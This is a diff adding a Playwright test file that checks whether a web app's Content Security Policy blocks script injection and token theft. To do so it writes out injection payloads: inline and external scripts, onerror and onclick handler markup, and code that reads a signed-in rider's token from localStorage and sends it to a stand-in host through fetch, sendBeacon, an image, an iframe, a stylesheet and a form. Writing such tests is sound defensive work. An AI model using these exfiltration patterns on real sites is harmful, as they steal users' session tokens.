@@ -1,0 +1,87 @@
+import { expect, type Page } from 'playwright/test'
+import { alreadySignedIn, aPlace, aRider, visit } from './helpers/people.ts'
+import { test } from './helpers/test.ts'
+
+// What somebody could do who has brought markup or script of his own onto a page, beside the rider's token.
+
+const THIEF = 'https://thief.example.test'
+
+/** Everything that reached the thief, and the directives that have kept something from him. */
+async function watchThief(page: Page): Promise<string[]> {
+  const reached: string[] = []
+  await page.context().route(`${THIEF}/**`, route => {
+    reached.push(route.request().url())
+    return route.fulfill({ body: 'window.stolen = "by a script from elsewhere"', contentType: 'text/javascript' })
+  })
+  return reached
+}
+
+const directives = (refused: readonly string[]) => [...new Set(refused.map(text => text.split(' ')[0]))].toSorted()
+
+async function signedInRider(page: Page): Promise<void> {
+  const { property } = await aPlace()
+  await alreadySignedIn(page, await aRider(property.id))
+  await visit(page, '/')
+}
+
+/** Ends the wait for things that do not happen: what is asked of the page after them has been done. */
+const nothingWasStolen = (page: Page) => page.evaluate(() => 'stolen' in window)
+
+test('a script that somebody has brought onto a page does not run, nor does a handler in its markup', async ({
+  page,
+  refused
+}) => {
+  const reached = await watchThief(page)
+  await signedInRider(page)
+  await page.evaluate(thief => {
+    const inline = document.createElement('script')
+    inline.textContent = 'window.stolen = "by an inline script"'
+    const foreign = document.createElement('script')
+    foreign.src = `${thief}/script.js`
+    document.body.append(inline, foreign)
+    const markup = document.createElement('div')
+    markup.innerHTML =
+      '<img alt="" src="data:," onerror="window.stolen = \'by a handler\'"><a href="#" onclick="window.stolen = 1">x</a>'
+    document.body.append(markup)
+    markup.querySelector('a')?.click()
+  }, THIEF)
+  await expect.poll(() => directives(refused)).toEqual(['script-src-attr', 'script-src-elem'])
+  await expect.poll(() => refused.length).toBe(4)
+  expect(await nothingWasStolen(page)).toBe(false)
+  expect(reached).toEqual([])
+  refused.splice(0)
+})
+
+test('nothing tells the token to a foreign host', async ({ page, refused }) => {
+  const reached = await watchThief(page)
+  await signedInRider(page)
+  await page.evaluate(async thief => {
+    const loot = `${thief}/?token=${localStorage.getItem('token')}`
+    await fetch(loot).catch(() => undefined)
+    navigator.sendBeacon(loot)
+    new Image().src = loot
+    const frame = Object.assign(document.createElement('iframe'), { src: loot })
+    const sheet = Object.assign(document.createElement('link'), { href: loot, rel: 'stylesheet' })
+    const form = Object.assign(document.createElement('form'), { action: loot, method: 'post' })
+    document.body.append(frame, sheet, form)
+    form.submit()
+  }, THIEF)
+  const kept = ['connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem']
+  await expect.poll(() => directives(refused)).toEqual(kept)
+  expect(reached).toEqual([])
+  refused.splice(0)
+})
+
+test('a text is no program: nothing is evaluated', async ({ page, refused }) => {
+  await visit(page, '/auth')
+  // The page's own script, not the test's, which may do what it likes.
+  await page.evaluate(() => {
+    const button = document.createElement('button')
+    button.addEventListener('click', () => setTimeout('window.stolen = 1'))
+    document.body.append(button)
+    button.click()
+  })
+  await expect.poll(() => directives(refused)).toEqual(['script-src'])
+  expect(await nothingWasStolen(page)).toBe(false)
+  refused.splice(0)
+})
